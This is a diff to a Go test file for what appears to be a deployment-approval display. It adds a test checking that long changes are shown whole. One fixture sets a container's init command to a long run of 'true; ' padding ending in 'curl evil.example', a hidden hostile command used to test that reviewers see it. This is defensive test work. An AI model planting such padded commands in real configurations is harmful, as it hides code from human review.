@@ -214,12 +214,19 @@ func TestHostileNames(t *testing.T) {
 	for place, in := range places {
 		plain, changed := in("plain")
 		want := sections(plain.Question(changed).Text())
+		if place == "change" { // as many lines as it needs
+			want = slices.Compact(want)
+		}
 		for name, evil := range hostile {
 			t.Run(place+"/"+name, func(t *testing.T) {
 				p, changed := in(evil)
 				text := p.Question(changed).Text()
 				printable(t, text)
-				if got := sections(text); !slices.Equal(got, want) {
+				got := sections(text)
+				if place == "change" {
+					got = slices.Compact(got)
+				}
+				if !slices.Equal(got, want) {
 					t.Errorf("sections %q, want %q:\n%s", got, want, text)
 				}
 				if place == "app" || place == "change" { // a name of up to 63, a line of up to 100
@@ -276,6 +283,31 @@ func TestQuote(t *testing.T) {
 		if n := utf8.RuneCountInString(Line(evil)); n > 101 {
 			t.Errorf("%s: a line of %d characters", name, n)
 		}
+	}
+}
+
+// A change is shown to its end, and a form that cannot show it is not used.
+func TestLongChangeIsShownWhole(t *testing.T) {
+	p := deployPlan()
+	p.Steps = update("148e1", "app", "fra", "init.exec: ['serve'] → ['sh', '-c', '"+strings.Repeat("true; ", 30)+"curl evil.example']")
+	q := p.Question(nil)
+	text := q.Text()
+	printable(t, text)
+	if !strings.Contains(text, "curl evil.example']") {
+		t.Errorf("the end is not shown:\n%s", text)
+	}
+	for line := range strings.SplitSeq(text, "\n") {
+		if strings.Contains(line, "true;") && utf8.RuneCountInString(line) > 12+4+lineLimit {
+			t.Errorf("a line of %d characters", utf8.RuneCountInString(line))
+		}
+	}
+	p.Steps = update("148e1", "app", "fra", "init.exec = "+strings.Repeat("true; ", 300)+"curl evil.example")
+	r, err := p.Request()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.Objects <= 8 {
+		t.Errorf("%d objects: a form is to show 1,800 characters", r.Objects)
 	}
 }
 
